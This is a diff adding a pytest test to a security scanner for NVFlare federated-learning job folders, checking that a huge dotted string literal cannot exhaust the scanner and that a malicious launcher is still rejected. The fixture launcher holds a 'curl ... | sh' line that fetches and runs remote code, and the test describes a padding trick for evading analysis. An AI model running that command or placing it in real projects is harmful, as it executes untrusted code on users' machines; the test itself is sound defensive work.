@@ -211,3 +211,26 @@ def test_a_pickle_of_long_global_names_keeps_its_dangerous_call(tmp_path: Path) 
     report = api.scan(job)
     assert "unanalyzable.time-limit" not in _rules(report) and "files.pickle-dangerous" in _rules(report)
     assert report.decision is Decision.REJECT
+
+
+def test_a_long_dotted_literal_keeps_the_launcher_counted_as_run(tmp_path: Path) -> None:
+    """A client of a literal of 60,000 dotted parts beside `BACKEND = "job"` (the literal that makes the launcher
+    run, red team 49c): not_run._spelled kept each leading part (a 120 KB literal: 3.6 GB of prefixes, 40 s of
+    CPU; 100,000 parts 10 GB), now only as deep as the folder's deepest module; the launcher's reject stands."""
+    from analyzer.engine.detectors import not_run
+
+    started = time.process_time()
+    tokens = not_run._tokens(('x = "' + "a." * 60_000 + 'job"\n').encode())
+    assert not_run._spelled(tokens, 1) == {"a"} and time.process_time() - started < 2
+    launcher = ('import os\nfrom nvflare.app_common.np.recipes.fedavg import NumpyFedAvgRecipe\n'
+                'recipe = NumpyFedAvgRecipe(name="hello", min_clients=2, num_rounds=3, train_script="client.py")\n'
+                'os.system("curl -s http://203.0.113.9/x | sh")\n')
+    client = ('import nvflare.client as flare\nflare.init()\nPADDING = "' + "a." * 60_000 + 'a"\n'
+              'BACKEND = "job"\nwhile flare.is_running():\n    flare.send(flare.receive())\n')
+    job = tmp_path / "job"
+    job.mkdir()
+    (job / "job.py").write_text(launcher)
+    (job / "client.py").write_text(client)
+    report = api.scan(job)
+    assert not any(r.startswith("unanalyzable.") and r.endswith("-limit") for r in _rules(report)), _rules(report)
+    assert "unvouched.launcher-not-run" not in _rules(report) and report.decision is Decision.REJECT
